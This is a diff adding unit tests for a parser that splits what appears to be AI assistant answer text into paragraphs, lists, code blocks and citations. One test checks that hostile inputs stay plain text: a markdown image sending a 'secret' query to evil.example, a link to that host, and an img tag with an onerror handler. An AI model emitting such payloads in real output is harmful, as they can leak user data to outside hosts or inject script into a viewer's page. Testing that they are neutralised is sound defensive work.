@@ -1,0 +1,62 @@
+import { expect, test } from "vitest";
+import { readAnswer } from "./answer-blocks.ts";
+
+test("reads paragraphs, lists, code and citations", () => {
+  const text =
+    "Move **traffic** back [2].[?]\nAt once.\n\n1. Cordon `pool-b` [1]\n\n2. Wait\n- Tell them\n```\nkubectl [1]\n```\nDone";
+  expect(readAnswer(text)).toMatchObject([
+    {
+      kind: "paragraph",
+      lines: [
+        {
+          parts: [
+            { kind: "text", text: "Move " },
+            { kind: "strong", text: "traffic" },
+            { kind: "text", text: " back " },
+            { kind: "source", number: 2 },
+            { kind: "text", text: "." },
+            { kind: "unsupported" },
+          ],
+        },
+        { parts: [{ kind: "text", text: "At once." }] },
+      ],
+    },
+    {
+      kind: "list",
+      isOrdered: true,
+      start: 1,
+      items: [
+        {
+          parts: [
+            { kind: "text", text: "Cordon " },
+            { kind: "code", text: "pool-b" },
+            { kind: "text", text: " " },
+            { kind: "source", number: 1 },
+          ],
+        },
+        { parts: [{ kind: "text", text: "Wait" }] },
+      ],
+    },
+    { kind: "list", isOrdered: false, start: 1, items: [{ parts: [{ kind: "text", text: "Tell them" }] }] },
+    { kind: "code", text: "kubectl [1]" },
+    { kind: "paragraph", lines: [{ parts: [{ kind: "text", text: "Done" }] }] },
+  ]);
+});
+
+test("a picture, a link and markup are text", () => {
+  for (const text of [
+    "![x](http://evil.example/?q=secret)",
+    "[x](http://evil.example)",
+    "<img src=x onerror=y>",
+  ])
+    expect(readAnswer(text)).toMatchObject([
+      { kind: "paragraph", lines: [{ parts: [{ kind: "text", text }] }] },
+    ]);
+});
+
+test("half an answer is readable", () => {
+  expect(readAnswer("Look:\n```\nkubectl")).toMatchObject([
+    { kind: "paragraph" },
+    { kind: "code", text: "kubectl" },
+  ]);
+});
